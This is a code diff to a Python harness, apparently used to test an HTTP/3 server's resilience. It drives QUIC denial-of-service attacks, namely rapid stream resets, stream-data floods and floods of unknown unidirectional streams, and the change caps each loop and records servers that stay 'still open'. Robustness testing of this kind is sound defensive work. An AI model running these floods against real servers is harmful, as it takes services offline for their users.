@@ -12,6 +12,9 @@ from attack_quic import Client, frame, integer, name, pull, response, section
 PORT, ATTACK, BYTES, COUNT = int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
 HUGE = 1 << 40
 FILL = bytes(64 << 10)
+# A flood of so many small things that nothing ends is one that the node bears.
+MANY = 100_000
+BORNE = "still open"
 DATA, HEADERS, CANCEL_PUSH, SETTINGS, PUSH_PROMISE, GOAWAY, MAX_PUSH_ID = 0, 1, 3, 4, 5, 7, 13
 PRIORITY_UPDATE, UNKNOWN = 0xF0700, 0x21
 CONTROL = b"\0" + frame(SETTINGS)
@@ -238,15 +241,16 @@ def rapid_reset():
     """Requests that are reset as soon as they are made."""
     ends, sent = set(), 0
     for _ in range(COUNT):
-        here = client()
-        while here.end is None:
+        here, number = client(), 0
+        while here.end is None and number < MANY // 20:
             for _ in range(20):
                 at = here.open(request(path="/up/never"))
                 here.flush()
                 here.quic.reset_stream(at, 0x10C)
+            number += 20
             here.flush()
             here.hear(0.01)
-        ends.add(here.end)
+        ends.add(here.end or BORNE)
         sent += here.sent
         here.udp.close()
     tell(ATTACK, " or ".join(sorted(ends)), sent=sent, connections=COUNT)
@@ -258,13 +262,13 @@ def flood(open_one, more):
     for _ in range(COUNT):
         here, number = client(stubborn=True), 0
         at = open_one(here)
-        while here.end is None:
+        while here.end is None and number < MANY:
             if here.waiting(at) < 16 << 10:
                 here.write(at, b"".join(more(number + each) for each in range(100)))
                 number += 100
             here.flush()
             here.hear(0.01)
-        ends.add(here.end)
+        ends.add(here.end or BORNE)
         sent, took = sent + here.sent, max(took, number)
         here.udp.close()
     tell(ATTACK, " or ".join(sorted(ends)), sent=sent, connections=COUNT)
@@ -323,13 +327,14 @@ def uni_streams():
     """Unidirectional streams of a type that nobody knows, one after the other."""
     ends, sent = set(), 0
     for _ in range(COUNT):
-        here = client()
-        while here.end is None:
+        here, number = client(), 0
+        while here.end is None and number < MANY // 20:
             for _ in range(8):
                 here.open(integer(0x2F), fin=True, uni=True)
+            number += 8
             here.flush()
             here.hear(0.01)
-        ends.add(here.end)
+        ends.add(here.end or BORNE)
         sent += here.sent
         here.udp.close()
     tell(ATTACK, " or ".join(sorted(ends)), sent=sent, connections=COUNT)
